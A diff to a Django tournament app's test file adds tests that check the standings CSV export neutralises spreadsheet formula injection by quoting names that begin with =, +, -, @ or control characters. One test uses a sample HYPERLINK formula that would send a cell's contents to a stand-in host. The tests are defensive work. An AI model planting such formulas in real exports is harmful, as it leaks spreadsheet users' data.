@@ -1,6 +1,9 @@
 """The desk's second edition: bots filling tables and seated among people, check-in, a round
 withdrawn, a tournament cancelled or deleted — no tournament left that can neither start nor go."""
 
+import csv
+import io
+
 import pytest
 from django.template import Context, Template
 
@@ -286,6 +289,34 @@ def test_one_rounding_for_the_csv_and_the_pages():
     assert page == "0.813"
     assert cells[:4] == ["1", "Chloé", "guest", page]
     assert "0.333" in cells
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_name_that_could_start_a_formula_is_exported_as_text(lead):
+    figures = dict.fromkeys(name for name, _ in selectors.CSV_COLUMNS)
+    row = figures | {"player": f"{lead}SUM(A1:A9)", "kind": "guest", "points": -2.5}
+    row |= {"tiebreaks": {}, "round_points": {1: -2.5}}
+
+    exported = selectors.standings_csv(
+        standings=selectors.Standings(rows=[row], round_numbers=[1], score_history={})
+    )
+
+    cells = next(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
+    assert cells["player"] == f"'{lead}SUM(A1:A9)"
+    assert (cells["points"], cells["round_1"]) == ("-2.50", "-2.50")  # figures stay figures
+
+
+def test_a_guest_named_like_a_formula_comes_out_of_the_standings_csv_as_text(staff):
+    path = create(staff, play="offline", rounds=1)
+    link = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    names = [link, "@Eve", "+Fred", "-Gus"]
+    entries = {"entries": [{"guest": name} for name in names]}
+    assert staff.post(f"{path}/register/", entries).status_code == 200
+
+    exported = staff.get(f"{path}/standings/?format=csv").content.decode()
+
+    rows = csv.DictReader(io.StringIO(exported.removeprefix("\ufeff")))
+    assert sorted(row["player"] for row in rows) == sorted(f"'{name}" for name in names)
 
 
 def test_tallies_no_cards_can_make_are_refused_and_high_ones_confirmed(staff):
